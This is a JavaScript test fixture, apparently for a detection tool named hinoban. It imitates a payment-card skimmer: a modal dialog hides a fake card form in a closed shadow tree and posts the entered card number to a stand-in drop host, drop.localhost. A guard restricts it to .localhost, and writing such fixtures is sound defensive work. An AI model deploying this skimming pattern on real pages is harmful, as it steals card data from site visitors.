/* Harmless imitation, for hinoban's tests: fake form in a closed shadow tree of a modal dialog. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
addEventListener('load', function () {
	var d = document.createElement('dialog'), host = document.createElement('div'), root = host.attachShadow({mode: 'closed'});
	root.innerHTML = '<p>Card <input autocomplete="cc-number" placeholder="Card number"><p>Code <input autocomplete="cc-csc" placeholder="Code"><p><button type=button>Pay</button>';
	root.querySelector('button').onclick = function () {
		fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', keepalive: true, body: root.querySelector('input').value});
		d.close();
	};
	d.appendChild(host);
	document.body.appendChild(d);
	d.showModal();
});
